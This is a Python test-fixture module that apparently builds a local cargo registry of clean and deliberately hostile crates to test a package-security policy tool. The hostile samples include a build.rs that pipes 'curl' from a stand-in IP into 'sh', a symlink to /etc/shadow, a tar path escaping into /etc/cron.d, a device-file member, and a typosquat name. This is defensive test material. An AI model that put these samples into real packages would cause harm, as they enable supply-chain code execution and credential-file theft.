"""A cargo local registry of tiny crates (clean and hostile) and the machine's cargo."""

from __future__ import annotations

import io
import os
import tarfile
from pathlib import Path

import pytest

from aegis.devtools.cargo_registry import CargoRegistry, find_cargo

CARGO = find_cargo()
needs_cargo = pytest.mark.skipif(
    CARGO is None and os.environ.get("CI") != "true",
    reason="cargo is not installed (scripts/test installs Debian's)",
)

HOSTILE_BUILD = """use std::process::Command;
fn main() {
    Command::new("sh").arg("-c").arg("curl -s http://203.0.113.9/x | sh").status().unwrap();
}
"""
GEN_BUILD = """use std::process::Command;
fn main() { let _ = Command::new("protoc").args(["--version"]).status(); }
"""
MAIN = 'fn main() { println!("hello {}", tiny_dep::one()); }\n'


def _raw_crate(name: str, version: str, members: list[tarfile.TarInfo]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for m in members:
            tf.addfile(m, io.BytesIO(b"x" * m.size) if m.isreg() else None)
    return buf.getvalue()


def _member(name: str, kind: bytes = tarfile.REGTYPE, target: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = target
    info.size = 1 if kind == tarfile.REGTYPE else 0
    return info


def build_registry(root: Path) -> CargoRegistry:
    reg = CargoRegistry(root)
    reg.add("tiny-dep", "1.0.0", lib="pub fn one() -> u32 { 1 }\n")
    reg.add("hello-bin", "0.9.0", main="fn main() {}\n")
    reg.add("hello-bin", "1.0.0", deps={"tiny-dep": "1.0.0"}, main=MAIN)
    reg.add("yanked-bin", "0.9.0", main="fn main() {}\n")
    reg.add("yanked-bin", "1.0.0", main="fn main() {}\n", yanked=True)
    reg.add("hostile-build", "0.1.0", main="fn main() {}\n", build_rs=HOSTILE_BUILD)
    reg.add("gen-bin", "0.1.0", main="fn main() {}\n", build_rs=GEN_BUILD)
    reg.add("macro-dep", "1.0.0", lib="", manifest_extra="\n[lib]\nproc-macro = true\n")
    reg.add("uses-macro", "1.0.0", deps={"macro-dep": "1.0.0"}, main="fn main() {}\n")
    reg.add("native-bin", "1.0.0", main="fn main() {}\n", manifest_extra='links = "z"\n')
    reg.add("unlocked-bin", "1.0.0", main="fn main() {}\n", lock=False)
    reg.add("sudo", "1.0.0", main="fn main() {}\n")
    reg.add("ripgrap", "1.0.0", main="fn main() {}\n")  # a lookalike of ripgrep
    git_lock = ('version = 3\n[[package]]\nname = "git-lock-bin"\nversion = "1.0.0"\n'
                'dependencies = ["x"]\n[[package]]\nname = "x"\nversion = "0.1.0"\n'
                'source = "git+https://example.com/x#abc"\n')  # fmt: skip
    reg.add("git-lock-bin", "1.0.0", main="fn main() {}\n", lock=False,
            members={"git-lock-bin-1.0.0/Cargo.lock": git_lock.encode()})  # fmt: skip
    reg.add("tampered-bin", "1.0.0", main="fn main() {}\n")
    crate = root / "tampered-bin-1.0.0.crate"
    crate.write_bytes(crate.read_bytes() + b"\0")
    for name, member in (
        ("link-bin", _member("link-bin-1.0.0/build.rs", tarfile.SYMTYPE, "/etc/shadow")),
        ("escape-bin", _member("escape-bin-1.0.0/../../etc/cron.d/x")),
        ("device-bin", _member("device-bin-1.0.0/dev", tarfile.CHRTYPE)),
    ):
        reg.publish(name, "1.0.0", _raw_crate(name, "1.0.0", [member]), deps={})
    return reg


def policy_with_registry(url: str) -> str:
    default = (Path(__file__).resolve().parents[4] / "aegis/policy/default_policy.toml").read_text()
    return default + f'\n[[registries]]\nname = "crates"\necosystem = "cargo"\nurl = "{url}"\n'
